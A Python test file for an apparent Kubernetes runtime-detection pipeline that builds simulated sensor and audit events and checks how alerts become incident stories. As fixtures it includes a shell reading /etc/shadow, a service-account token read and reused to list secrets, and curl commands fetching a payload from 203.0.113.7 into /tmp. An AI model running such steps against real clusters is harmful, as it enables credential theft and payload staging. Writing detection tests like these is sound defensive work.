"""Stories from events in the shapes the real sensors publish (issue 19 item 3).

Every event here is made by the sensors' own code (tests/shapes.py): kernel records decoded by the eBPF
sensor's decoder and attributed through its pod cache, audit events normalized by the audit intake from
kube-apiserver's wire format. They flow through enrich → detect → correlate as wire bytes.
"""

from __future__ import annotations

from schemas.records import Actor
from schemas.settings import Settings
from tests.shapes import TOKEN, Node, Pod, Proc, Stages


def shop(node: Node) -> None:
    """A Deployment's ReplicaSet, so pods name their workload as the pod watch does."""
    node.owner(
        "ReplicaSet",
        {
            "metadata": {
                "name": "payments-7d9f",
                "namespace": "shop",
                "uid": "uid-rs",
                "ownerReferences": [
                    {"apiVersion": "apps/v1", "kind": "Deployment", "name": "payments", "controller": True}
                ],
            }
        },
    )


def payments(node: Node, **kw: object) -> Pod:
    """A replica of the payments Deployment, running as its service account."""
    shop(node)
    return node.pod(
        "shop",
        "payments-7d9f-abc12",
        owner=("ReplicaSet", "payments-7d9f"),
        service_account="payments",
        ip="10.244.1.17",
        **kw,  # type: ignore[arg-type]
    )


# -- actors as Kubernetes names them ---------------------------------------------------------------


def test_service_account_actor_is_the_kubernetes_user_name_everywhere() -> None:
    node = Node()
    pod = payments(node)
    stages = Stages()
    stages.feed([node.api(pod.user, "list", "secrets", at=10, namespace="shop", source_ips=[pod.ip])])
    (alert,) = [a for a in stages.alerts if a.rule_id == "CADR-K8S-0028"]
    full = "system:serviceaccount:shop:payments"
    assert alert.actors == [Actor(kind="service_account", name=full)]
    inc = stages.story_of("CADR-K8S-0028")
    assert inc.actors == [Actor(kind="service_account", name=full)]
    assert full in inc.title and inc.summary.startswith(full)
    assert "shop:payments " not in inc.summary.replace(full, "")


# -- events of a container seen before its pod reached the node's watch -------------------------------


def test_enrich_names_the_pod_of_events_sent_with_the_container_id_alone() -> None:
    """The node's sensor sent a container's events with its id alone (its pod watch did not know the pod
    in time, or it has none); the audit intake knows the pod: enrich attributes the events by the id."""
    node = Node()
    shop(node)
    pod = node.pod(
        "shop", "payments-7d9f-abc12", owner=("ReplicaSet", "payments-7d9f"), ip="10.244.1.17", watched=False
    )
    node.cluster_pods.upsert("Pod", pod.obj)  # only the intake's watch has it
    stages = Stages()
    stages.feed([node.kubectl_exec("alice@example.com", pod, ["sh"], at=1)])
    runc = node.process(None, comm="runc")
    shell, exec_value = node.exec(runc, "/bin/sh", ["sh"], at=2, tty=True, pod=pod)
    stages.feed([exec_value, node.open(shell, "/etc/shadow", at=3)])
    shell_alert = next(a for a in stages.alerts if a.rule_id == "CADR-PROC-0001")
    assert shell_alert.workload.pod == pod.name and shell_alert.workload.workload_name == "payments"
    assert stages.enricher.counters["attributed_late"] == 2 and stages.enricher.counters["unattributed"] == 0
    # and the kubectl exec session and the shell are one story
    (story,) = stages.stories()
    assert {"CADR-K8S-0001", "CADR-PROC-0001"} <= {a.rule_id for a in story.alerts}


def test_enrich_counts_events_that_stay_without_a_pod() -> None:
    node = Node()
    pod = node.pod("shop", "lost-1", watched=False)
    stages = Stages()
    stages.feed([node.exec(node.process(pod), "/bin/ls", ["ls"], at=1)[1]])
    assert stages.enricher.counters["unattributed"] == 1


# -- pod IPs and the workload at the other end of a connection ----------------------------------------


def test_ebpf_events_carry_the_pod_ip_once_the_pod_watch_has_it() -> None:
    """kubelet reports a container's id before (or without) the pod's IP; the sensor must not keep
    the first answer for the container's lifetime."""
    node = Node()
    pod = node.pod("shop", "api-1", service_account="api")  # running, no IP reported yet
    app = node.process(pod)
    stages = Stages()
    stages.feed([node.exec(app, "/bin/sleep", ["sleep", "1"], at=1)[1]])
    assert stages.events[-1].workload.pod == "api-1" and stages.events[-1].workload.pod_ip == ""
    node.watch(
        pod,
        {
            **pod.obj,
            "status": {**pod.obj["status"], "podIP": "10.244.1.30", "podIPs": [{"ip": "10.244.1.30"}]},
        },
    )
    stages.feed([node.exec(app, "/bin/sleep", ["sleep", "2"], at=2)[1], node.open(app, "/etc/hosts", at=3)])
    assert [e.workload.pod_ip for e in stages.events[-2:]] == ["10.244.1.30", "10.244.1.30"]


def test_connections_between_pods_name_the_peer_workload_without_any_rule() -> None:
    node = Node()
    front = node.pod(
        "web", "front-1", owner=("StatefulSet", "front"), ip="10.244.1.40", labels={"app": "front"}
    )
    db = node.pod("data", "db-0", owner=("StatefulSet", "db"), ip="10.244.1.50", labels={"app": "db"})
    node.service("data", "db", "10.96.0.50", {"app": "db"})
    client, server = node.process(front, comm="front"), node.process(db, comm="postgres")
    stages = Stages()
    alerts = stages.feed(
        [
            node.connect(client, front.ip, (db.ip, 5432), at=1),
            node.connect(client, front.ip, ("10.96.0.50", 5432), at=2),  # through the Service
            node.accept(server, (db.ip, 5432), front.ip, at=2.1),
            node.connect(client, front.ip, ("203.0.113.9", 443), at=3),  # not a pod
        ]
    )
    nets = sorted((e for e in stages.events if e.network is not None), key=lambda e: e.time)
    assert [e.network.peer_workload for e in nets] == [  # type: ignore[union-attr]
        "prod/data/StatefulSet/db",
        "prod/data/StatefulSet/db",
        "prod/web/StatefulSet/front",
        "",
    ]
    assert alerts == []  # the edges exist without any rule firing on them


# -- the workload that made an API call ----------------------------------------------------------------


def test_an_api_call_from_a_pod_carries_the_acting_workload_and_joins_its_story() -> None:
    node = Node()
    pod = payments(node)
    other = node.pod(
        "shop", "cart-1", owner=("StatefulSet", "cart"), service_account="cart", ip="10.244.1.18"
    )
    stages = Stages()
    runc = node.process(None, comm="runc")
    _, shell_exec = node.exec(runc, "/bin/bash", ["bash"], at=2, tty=True, pod=pod)
    stages.feed([node.kubectl_exec("alice@example.com", pod, ["bash"], at=1), shell_exec])
    # the pod's service account lists secrets from the pod's IP: no token read was alerted on
    stages.feed([node.api(pod.user, "list", "secrets", at=20, namespace="shop", source_ips=[pod.ip])])
    api = next(e for e in stages.events if e.audit is not None and e.audit.resource == "secrets")
    assert api.audit is not None and api.audit.actor_workload is not None
    actor = api.audit.actor_workload
    assert (actor.namespace, actor.pod, actor.workload_name, actor.service_account) == (
        "shop",
        pod.name,
        "payments",
        "payments",
    )
    (story,) = stages.stories()
    assert {"CADR-K8S-0001", "CADR-PROC-0001", "CADR-K8S-0028"} <= {a.rule_id for a in story.alerts}
    assert "token_api" in story.threads
    assert pod.name in {w.pod for w in story.workloads}
    # the same service account's token used from another pod: that pod is the actor
    stages.feed(
        [node.api(pod.user, "get", "secrets", at=30, namespace="shop", name="db", source_ips=[other.ip])]
    )
    stolen = [e for e in stages.events if e.audit is not None and e.audit.verb == "get"][-1]
    assert stolen.audit is not None and stolen.audit.actor_workload is not None
    assert stolen.audit.actor_workload.pod == "cart-1"


def test_a_service_account_of_one_workload_names_it_when_the_ip_is_no_pod() -> None:
    node = Node()
    pod = node.pod("shop", "api-1", owner=("StatefulSet", "api"), service_account="api", ip="10.244.1.9")
    stages = Stages()
    stages.feed([node.api(pod.user, "list", "secrets", at=5, namespace="shop", source_ips=["198.51.100.7"])])
    (event,) = stages.events
    assert event.audit is not None and event.audit.actor_workload is not None
    assert (event.audit.actor_workload.workload_name, event.audit.actor_workload.pod) == ("api", "")


# -- a token read by any process of a pod ----------------------------------------------------------------


def learned(window_s: float = 60) -> Stages:
    settings = Settings(cluster="prod")
    settings.detect.learning_window_s = window_s
    return Stages(settings)


def test_the_apps_own_read_of_its_token_links_to_api_calls_made_with_it() -> None:
    """Not a shell, not cat: the workload's own process reads its token (an anomaly: it never did while
    its profile was learned), and the token is then used against the API from outside the cluster."""
    node = Node()
    pod = node.pod("shop", "api-1", owner=("StatefulSet", "api"), service_account="api", ip="10.244.1.9")
    stages = learned(60)
    app = node.process(pod, comm="python3")
    main, main_exec = node.exec(app, "/usr/bin/python3", ["python3", "/app/main.py"], at=1)
    stages.feed(
        [main_exec, node.open(main, "/app/config.yaml", at=2), node.open(main, "/app/config.yaml", at=61)]
    )
    assert stages.alerts == []
    stages.feed([node.open(main, TOKEN, at=100)])
    (read,) = stages.alerts
    assert read.rule_id == "CADR-ANOM-0003" and "sa_token" in read.tags
    stages.feed(
        [node.api(pod.user, "list", "secrets", at=160, namespace="shop", source_ips=["198.51.100.7"])]
    )
    story = stages.story_of("CADR-K8S-0028")
    assert {a.rule_id for a in story.alerts} == {"CADR-ANOM-0003", "CADR-K8S-0028"}
    assert "token_api" in story.threads and "token_api" in {e.kind for e in story.edges}


# -- the lateral thread --------------------------------------------------------------------------------


def _lateral(node: Node) -> tuple[Pod, Pod, list[bytes], list[bytes]]:
    """alice's session in front-1 connects to db-0 (no rule fires on that); then db-0 runs curl."""
    front = node.pod(
        "web", "front-1", owner=("StatefulSet", "front"), ip="10.244.1.40", labels={"app": "front"}
    )
    db = node.pod("data", "db-0", owner=("StatefulSet", "db"), ip="10.244.1.50", labels={"app": "db"})
    runc = node.process(None, comm="runc")
    postgres = node.process(db, comm="postgres")
    shell, shell_exec = node.exec(runc, "/bin/bash", ["bash"], at=2, tty=True, pod=front)
    attacker = [
        node.kubectl_exec("alice@example.com", front, ["bash"], at=1),
        shell_exec,
        node.connect(shell, front.ip, (db.ip, 5432), at=5),
    ]
    victim = [
        node.accept(postgres, (db.ip, 5432), front.ip, at=5.01),
        node.exec(postgres, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://203.0.113.7/x"], at=10)[1],
    ]
    return front, db, attacker, victim


def _one_lateral_story(stages: Stages) -> None:
    (story,) = stages.stories()
    assert {a.rule_id for a in story.alerts} >= {"CADR-K8S-0001", "CADR-PROC-0001", "CADR-PROC-0006"}
    assert {w.pod for w in story.workloads} >= {"front-1", "db-0"}
    assert "lateral" in story.threads and "lateral" in {e.kind for e in story.edges}
    assert any(t.kind in ("net_connect", "net_accept") for t in story.timeline)


def test_a_connection_from_a_workload_with_a_story_joins_the_peers_later_alerts() -> None:
    node = Node()
    _, _, attacker, victim = _lateral(node)
    stages = Stages()
    stages.feed(attacker)
    stages.feed(victim)
    _one_lateral_story(stages)


def test_the_lateral_thread_holds_when_the_peers_alert_is_told_first() -> None:
    """Events of different workloads travel on different partitions: db-0's alert may reach correlation
    before the alerts of the session in front-1 that led there."""
    node = Node()
    _, _, attacker, victim = _lateral(node)
    stages = Stages()
    stages.feed(victim)
    stages.feed(attacker)
    _one_lateral_story(stages)


def test_a_connection_long_after_the_story_went_quiet_does_not_join() -> None:
    node = Node()
    front, db, attacker, _ = _lateral(node)
    stages = Stages()
    stages.feed(attacker[:2])  # alice's session in front-1 (t=1..2) ...
    # ... and half an hour later, an ordinary connection from front-1 to db-0, then curl there
    web, postgres = node.process(front, comm="nginx"), node.process(db, comm="postgres")
    stages.feed(
        [
            node.connect(web, front.ip, (db.ip, 5432), at=1800),
            node.accept(postgres, (db.ip, 5432), front.ip, at=1800.01),
            node.exec(postgres, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://203.0.113.7/x"], at=1810)[
                1
            ],
        ]
    )
    assert len(stages.stories()) == 2
    curl = stages.story_of("CADR-PROC-0006")
    assert "lateral" not in curl.threads and {w.pod for w in curl.workloads} == {"db-0"}


# -- two actors, two sessions ----------------------------------------------------------------------------


def _replicas(node: Node) -> tuple[Pod, Pod]:
    shop(node)
    one = node.pod("shop", "payments-7d9f-aaaaa", owner=("ReplicaSet", "payments-7d9f"), ip="10.244.1.21")
    two = node.pod("shop", "payments-7d9f-bbbbb", owner=("ReplicaSet", "payments-7d9f"), ip="10.244.1.22")
    return one, two


def _session(node: Node, user: str, pod: Pod, at: float, url: str) -> tuple[Proc, list[bytes]]:
    """``kubectl exec -it`` by ``user``: a shell (started by runc on the host), then curl."""
    runc, runc_exec = node.exec(
        node.process(None, comm="containerd-shim"), "/usr/bin/runc", ["runc", "exec"], at=at
    )
    shell, shell_exec = node.exec(runc, "/bin/bash", ["bash"], at=at + 0.5, tty=True, pod=pod)
    curl = node.exec(shell, "/usr/bin/curl", ["curl", "-so", "/tmp/t", url], at=at + 3)[1]
    return shell, [node.kubectl_exec(user, pod, ["bash"], at=at), runc_exec, shell_exec, curl]


def test_a_second_users_session_in_another_replica_is_its_own_story() -> None:
    node = Node()
    one, two = _replicas(node)
    stages = Stages()
    stages.feed(_session(node, "alice@example.com", one, 10, "http://203.0.113.7/a")[1])
    stages.feed(_session(node, "bob@example.com", two, 40, "http://203.0.113.7/a")[1])
    stories = stages.stories()
    assert len(stories) == 2, [s.title for s in stories]
    for story, user, pod in zip(stories, ("alice@example.com", "bob@example.com"), (one, two), strict=True):
        assert [a.name for a in story.actors] == [user]
        assert {a.rule_id for a in story.alerts} >= {"CADR-K8S-0001", "CADR-PROC-0001", "CADR-PROC-0006"}
        assert {w.pod for w in story.workloads} == {pod.name}
        assert all(a.count == 1 for a in story.alerts)


def test_repeats_within_one_session_still_fold() -> None:
    node = Node()
    one, _ = _replicas(node)
    stages = Stages()
    shell, events = _session(node, "alice@example.com", one, 10, "http://203.0.113.7/a")
    stages.feed(events)
    # the same command again in the same session: a repeat of the same cause, counted
    stages.feed(
        [node.exec(shell, "/usr/bin/curl", ["curl", "-so", "/tmp/t", "http://203.0.113.7/a"], at=20)[1]]
    )
    (story,) = stages.stories()
    assert {a.rule_id: a.count for a in story.alerts}["CADR-PROC-0006"] == 2
